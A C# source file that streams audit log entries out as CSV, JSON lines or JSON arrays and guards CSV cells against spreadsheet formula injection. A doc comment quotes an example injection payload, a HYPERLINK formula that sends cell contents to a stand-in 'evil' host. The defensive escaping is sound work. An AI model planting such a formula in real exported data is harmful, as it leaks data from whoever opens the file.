using System.Globalization;
using System.Text.Json;

namespace Slipway.Core.Audit;

/// <summary>
/// Formats audit entries for download as CSV, JSON lines or a JSON array. Writers stream entry by
/// entry to a <see cref="TextWriter"/>, so an export never holds the whole log; the async overloads
/// take a database cursor and suit response bodies, which refuse synchronous writes.
/// Text is never HTML-escaped in CSV (a viewer must treat it as text; escaping would alter the
/// evidence); JSON uses the framework's default encoder, which writes '&lt;' as \u003C, so a file
/// opened in a browser cannot run a script either way.
/// </summary>
public static class AuditExport
{
    public static readonly IReadOnlyList<string> CsvColumns =
    [
        "sequence", "at", "actor_kind", "actor", "source", "action", "target",
        "outcome", "detail", "request_id", "previous_hash", "hash",
    ];

    /// <summary>Web defaults: camelCase names matching <see cref="AuditChain.CanonicalContent"/>; nulls written.</summary>
    public static readonly JsonSerializerOptions JsonOptions = new(JsonSerializerDefaults.Web);

    public static string CsvHeader() => string.Join(',', CsvColumns);

    /// <summary>One RFC 4180 record, without the line break.</summary>
    public static string CsvRow(AuditEntry e) => string.Join(',', new[]
    {
        e.Sequence.ToString(CultureInfo.InvariantCulture),
        e.At.UtcDateTime.ToString("yyyy-MM-dd'T'HH:mm:ss.fff'Z'", CultureInfo.InvariantCulture),
        e.ActorKind, e.Actor, e.Source, e.Action, e.Target, e.Outcome, e.Detail, e.RequestId,
        e.PreviousHash, e.Hash,
    }.Select(CsvCell));

    /// <summary>
    /// Quotes a cell when it holds a comma, quote, CR or LF, doubling inner quotes (RFC 4180).
    /// A cell starting with =, +, -, @, tab or CR is first prefixed with a single quote: spreadsheet
    /// programs run such cells as formulas, and actor names, targets and details come from users
    /// (a "detail" of <c>=HYPERLINK("http://evil/?"&amp;A1)</c> would leak data when an auditor opens
    /// the export). The quote makes the cell plain text and is visibly not part of the value.
    /// </summary>
    public static string CsvCell(string? value)
    {
        if (string.IsNullOrEmpty(value)) return "";
        if (value[0] is '=' or '+' or '-' or '@' or '\t' or '\r') value = "'" + value;
        return value.AsSpan().IndexOfAny(",\"\r\n") >= 0
            ? "\"" + value.Replace("\"", "\"\"") + "\""
            : value;
    }

    public static string JsonLine(AuditEntry e) => JsonSerializer.Serialize(e, JsonOptions);

    public static void WriteCsv(IEnumerable<AuditEntry> entries, TextWriter output)
    {
        output.Write(CsvHeader() + "\r\n");
        foreach (var e in entries) output.Write(CsvRow(e) + "\r\n");
    }

    public static void WriteJsonLines(IEnumerable<AuditEntry> entries, TextWriter output)
    {
        foreach (var e in entries) output.Write(JsonLine(e) + "\n");
    }

    public static void WriteJsonArray(IEnumerable<AuditEntry> entries, TextWriter output)
    {
        var separator = "[\n";
        foreach (var e in entries) { output.Write(separator + JsonLine(e)); separator = ",\n"; }
        output.Write(separator == "[\n" ? "[]\n" : "\n]\n");
    }

    public static async Task WriteCsvAsync(IAsyncEnumerable<AuditEntry> entries, TextWriter output, CancellationToken ct = default)
    {
        await output.WriteAsync((CsvHeader() + "\r\n").AsMemory(), ct);
        await foreach (var e in entries.WithCancellation(ct)) await output.WriteAsync((CsvRow(e) + "\r\n").AsMemory(), ct);
    }

    public static async Task WriteJsonLinesAsync(IAsyncEnumerable<AuditEntry> entries, TextWriter output, CancellationToken ct = default)
    {
        await foreach (var e in entries.WithCancellation(ct)) await output.WriteAsync((JsonLine(e) + "\n").AsMemory(), ct);
    }

    public static async Task WriteJsonArrayAsync(IAsyncEnumerable<AuditEntry> entries, TextWriter output, CancellationToken ct = default)
    {
        var separator = "[\n";
        await foreach (var e in entries.WithCancellation(ct))
        {
            await output.WriteAsync((separator + JsonLine(e)).AsMemory(), ct);
            separator = ",\n";
        }
        await output.WriteAsync((separator == "[\n" ? "[]\n" : "\n]\n").AsMemory(), ct);
    }
}
